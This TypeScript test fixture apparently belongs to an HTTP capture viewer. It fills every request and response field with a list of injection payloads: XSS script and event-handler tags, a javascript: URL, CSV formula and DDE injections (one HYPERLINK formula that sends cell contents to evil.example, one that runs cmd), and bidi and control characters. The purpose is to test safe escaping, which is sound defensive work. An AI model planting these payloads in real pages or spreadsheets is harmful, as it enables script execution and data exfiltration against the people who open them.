import { readExample } from '../../engine/example.ts';
import type { Exchange } from '../../http/exchange.ts';
import { createSession, knowledge } from '../../index.ts';
import { type Selection, selectionOf } from '../selection.ts';

/** What a capture can hold to do harm where it is shown: markup, formulas, escapes, direction marks, half characters. */
export const hostile = [
  '<script>window.pwned = 1</script><img src=x onerror=window.pwned=1>',
  '"><svg onload=window.pwned=1>',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  ']]><failure/>&lt;&#0;',
  '\u0000\u0007\u001b[31m\u202e\u2066\u2028\ud800\uffff',
  'javascript:window.pwned=1',
];

/** A selection of denials whose every part holds one of the hostile texts. */
export function hostileSelection(file = 'a "<capture>" & more.har'): Selection {
  const session = createSession();
  for (const [id, text] of hostile.entries()) session.add(hostileExchange(id, text));
  return selectionOf(session, { file, capture: { entries: [], log: {} }, knowledge });
}

function hostileExchange(id: number, text: string): Exchange {
  const [exchange] = readExample({
    http: `GET /orders/1 HTTP/1.1\nHost: a.example\nAuthorization: Bearer x\n---\nHTTP/1.1 403 Forbidden\nContent-Type: text/html\n\n<p>You lack the role`,
  });
  if (!exchange) throw new Error('no exchange');
  const { request, response } = exchange;
  return {
    ...exchange,
    id,
    startedAt: exchange.startedAt + id * 1000,
    request: { ...request, method: text, url: `https://a.example/orders/${text}?q=${text}` },
    response: {
      ...response,
      statusText: text,
      fields: [...response.fields, { name: text, value: text }],
      content: { ...response.content, text: `${response.content.text} ${text}` },
    },
  };
}
